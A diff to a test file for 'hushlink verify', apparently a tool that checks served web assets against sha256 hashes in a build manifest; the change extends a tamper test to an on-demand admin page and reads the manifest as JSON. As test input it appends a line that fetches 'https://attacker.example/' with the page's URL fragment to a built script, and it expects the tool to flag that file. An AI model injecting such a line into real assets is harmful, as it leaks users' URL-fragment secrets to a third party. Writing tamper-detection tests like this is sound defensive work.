@@ -83,17 +83,23 @@ describe('hushlink verify', () => {
     expect(built.out).toContain('a local build of this checkout')
   })
 
-  it('fails and names the file when an asset is altered on disk', async () => {
-    const name = asset(/^index-.*\.js$/)
+  it.each([
+    ['the app script', /^index-.*\.js$/],
+    // Loaded on demand, so only index.html's preload template and the manifest name it.
+    ['a page loaded on demand', /^page-admin-.*\.js$/],
+  ])('fails and names the file when %s is altered on disk', async (_what, pattern) => {
+    const name = asset(pattern)
     const file = join(dist, 'assets', name)
     const original = readFileSync(file)
     appendFileSync(file, '\n;fetch("https://attacker.example/"+location.hash)\n')
     try {
       const result = await verify(server.url, '--manifest', join(dist, MANIFEST))
       expect(result.code).toBe(9)
-      const expected = /"\/assets\/index-[^"]+\.js": \{\s*"sha256": "([0-9a-f]{64})"/.exec(
-        readFileSync(join(dist, MANIFEST), 'utf8'),
-      )![1]!
+      const manifest = JSON.parse(readFileSync(join(dist, MANIFEST), 'utf8')) as {
+        files: Record<string, { sha256: string }>
+      }
+      const expected = manifest.files[`/assets/${name}`]?.sha256
+      expect(expected).toMatch(/^[0-9a-f]{64}$/)
       expect(result.out).toContain(
         `DIFFERENT  /assets/${name}, loaded by /\n    expected sha256 ${expected}\n    served   sha256 `,
       )
